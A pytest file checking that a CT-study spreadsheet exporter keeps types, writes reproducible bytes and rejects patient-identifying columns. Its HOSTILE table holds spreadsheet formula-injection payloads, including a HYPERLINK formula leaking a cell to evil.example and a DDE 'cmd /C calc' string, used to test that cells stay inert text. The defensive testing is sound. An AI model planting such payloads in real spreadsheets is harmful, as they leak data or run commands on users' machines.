from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from release.spreadsheets import build_details_xlsx, details_xlsx_bytes, read_details_xlsx

COLUMNS = (
    ("Case", "str"),
    ("KVP", "float"),
    ("Rows", "int"),
    ("AcquisitionDate", "date"),
    ("AcquisitionTime", "time"),
    ("InjectionDateTime", "datetime"),
    ("Kernel", "str"),
)
ROWS = [
    {
        "Case": "0001",
        "KVP": 120.0,
        "Rows": 512,
        "AcquisitionDate": "2024-03-01",
        "AcquisitionTime": "14:05:09",
        "InjectionDateTime": "2024-03-01T13:01:02",
        "Kernel": "B30f",
    },
    {
        "Case": "0002",
        "KVP": 100,
        "Rows": 256,
        "AcquisitionDate": "20240302",
        "AcquisitionTime": "090001.5",
        "InjectionDateTime": None,
        "Kernel": "a-very-long-kernel-name-for-the-width",
    },
]


def test_details_read_back_with_rows_types_header() -> None:
    wb = openpyxl.load_workbook(io.BytesIO(details_xlsx_bytes(COLUMNS, ROWS, title="CT-details")))
    ws = wb.worksheets[0]
    assert ws.title == "CT-details"
    values = [list(r) for r in ws.iter_rows(values_only=True)]
    assert values[0] == [name for name, _ in COLUMNS]
    assert len(values) == 3
    first, second = values[1], values[2]
    assert first[0] == "0001" and second[0] == "0002"
    # Excel has one number type: 120.0 reads back as the number 120, never as text
    assert isinstance(first[1], int | float) and first[1] == 120.0
    assert isinstance(second[1], int | float) and second[1] == 100.0
    assert isinstance(first[2], int) and first[2] == 512
    assert isinstance(first[3], dt.datetime) and first[3].date() == dt.date(2024, 3, 1)
    assert second[3].date() == dt.date(2024, 3, 2)
    assert first[4] == dt.time(14, 5, 9)
    assert second[4] == dt.time(9, 0, 1, 500000)
    assert first[5] == dt.datetime(2024, 3, 1, 13, 1, 2)
    assert second[5] is None
    # header: bold and frozen
    assert all(cell.font.bold for cell in ws[1])
    assert not ws["A2"].font.bold
    assert ws.freeze_panes == "A2"
    # widths fit the longest value of each column
    assert ws.column_dimensions["G"].width >= len("a-very-long-kernel-name-for-the-width")
    assert ws.column_dimensions["A"].width < ws.column_dimensions["G"].width
    assert ws["D2"].number_format == "yyyy-mm-dd"


def test_same_rows_give_same_bytes_despite_the_clock(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = details_xlsx_bytes(COLUMNS, ROWS)
    import time as time_module

    real = time_module.time
    monkeypatch.setattr(time_module, "time", lambda: real() + 86400 * 400)  # zip member times come from here
    second = details_xlsx_bytes(COLUMNS, ROWS)
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as zf:
        assert {i.date_time for i in zf.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        core = zf.read("docProps/core.xml")
        assert b"2000-01-01T00:00:00Z" in core
    changed = details_xlsx_bytes(COLUMNS, [ROWS[0]])
    assert changed != first


@pytest.mark.parametrize(
    "name",
    ["PatientID", "PatientName", "StudyInstanceUID", "SeriesInstanceUID", "AccessionNumber",
     "PatientBirthDate", "InstitutionName", "OtherPatientIDs", "PatientComments", "AdmissionID"],
)
def test_identifying_columns_are_refused(name: str) -> None:
    with pytest.raises(ValueError, match=name):
        details_xlsx_bytes([("Case", "str"), (name, "str")], [])


def test_bad_value_names_row_and_column() -> None:
    with pytest.raises(ValueError, match=r"row 2, column 'Rows'.*12.5"):
        details_xlsx_bytes([("Rows", "int")], [{"Rows": 12.5}])
    with pytest.raises(ValueError, match=r"row 3, column 'AcquisitionDate'.*not a date"):
        details_xlsx_bytes([("AcquisitionDate", "date")], [{}, {"AcquisitionDate": "yesterday"}])


# ---------------------------------------------------------------------------
# header text is data, never code, and never crashes the packaging

HOSTILE = {
    "\x01": ("SIEMENS\x01", "SIEMENS", 1),
    "\x1b": ("\x1b[31mGE MEDICAL\x1b[0m", "[31mGE MEDICAL[0m", 2),
    "formula": ('=HYPERLINK("http://evil.example/?leak="&A1,"click")',
                '=HYPERLINK("http://evil.example/?leak="&A1,"click")', 0),
    "plus": ("+1+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", 0),
    "minus": ("-2+3", "-2+3", 0),
    "at": ("@SUM(A1:A9)", "@SUM(A1:A9)", 0),
    "error-code": ("#N/A", "#N/A", 0),
    "surrogate": ("Philips\ud800", "Philips", 1),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_text_cells_are_text_and_unwritable_characters_are_removed_and_counted(case: str) -> None:
    raw, stored, removed = HOSTILE[case]
    columns = (("Case", "str"), ("Manufacturer", "str"), ("KVP", "float"))
    book = build_details_xlsx(columns, [{"Case": "0001", "Manufacturer": raw, "KVP": 120.0}], title="CT-details")
    assert book.removed_characters == removed
    wb = openpyxl.load_workbook(io.BytesIO(book.data))  # formulas as written, not cached values
    cell = wb.worksheets[0]["B2"]
    assert cell.value == stored
    assert cell.data_type == "s"
    assert cell.quotePrefix is stored.startswith(("=", "+", "-", "@"))
    with zipfile.ZipFile(io.BytesIO(book.data)) as xlsx:
        sheet = xlsx.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
    assert 't="inlineStr"' in sheet.split('r="B2"')[1][:40]


def test_one_hostile_row_among_good_ones_keeps_the_others_exact() -> None:
    rows = [dict(ROWS[0]), {**ROWS[1], "Kernel": "=1+1\x07"}]
    book = build_details_xlsx(COLUMNS, rows)
    header, body = read_details_xlsx(io.BytesIO(book.data))
    assert header == [name for name, _ in COLUMNS]
    assert body[0][6] == "B30f" and body[1][6] == "=1+1"  # read with data_only: a formula would be None
    assert book.removed_characters == 1
    assert details_xlsx_bytes(COLUMNS, rows) == book.data
